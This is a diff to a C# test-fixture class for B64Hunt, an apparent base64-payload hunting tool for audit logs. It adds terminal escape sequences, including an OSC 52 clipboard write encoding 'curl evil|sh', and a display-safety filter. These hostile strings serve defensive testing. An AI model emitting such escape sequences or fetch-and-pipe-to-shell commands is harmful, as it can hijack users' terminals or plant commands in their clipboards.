@@ -7,8 +7,15 @@ using System.Text;
 namespace B64Hunt.Tests.Hostile
 {
     /// <summary>Generates the hostile-file inputs of issue #12 (AUOMS lines with payloads, gzip variants).</summary>
-    internal static class HostileLines
+    internal static partial class HostileLines
     {
+        internal const string Osc0 = "\u001b]0;owned\u0007";
+        internal const string Osc52 = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
+        internal const string Csi2J = "\u001b[2J";
+
+        internal static bool IsDisplaySafe(string? text) =>
+            text == null || text.All(c => (c >= 0x20 && c != 0x7F && !(c >= 0x80 && c < 0xA0) && c != '\u202E' && c != '\u200B' && !char.IsSurrogate(c) && c != '\u2028') || c == '\n' || c == '\t');
+
         public static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
 
         /// <summary>An RFC 3164 AUOMS_EXECVE line whose cmdline hides "curl ... 203.0.113.{i} ...".</summary>
@@ -31,13 +38,5 @@ namespace B64Hunt.Tests.Hostile
         }
 
         public static byte[] Gzip(string text) => Gzip(Encoding.UTF8.GetBytes(text));
-
-        /// <summary>A runspace with Get-B64Command, for the end-to-end cases.</summary>
-        public static System.Management.Automation.PowerShell GetB64CommandShell()
-        {
-            var iss = System.Management.Automation.Runspaces.InitialSessionState.CreateDefault2();
-            iss.Commands.Add(new System.Management.Automation.Runspaces.SessionStateCmdletEntry("Get-B64Command", typeof(B64Hunt.Commands.GetB64CommandCommand), null));
-            return System.Management.Automation.PowerShell.Create(iss);
-        }
     }
 }
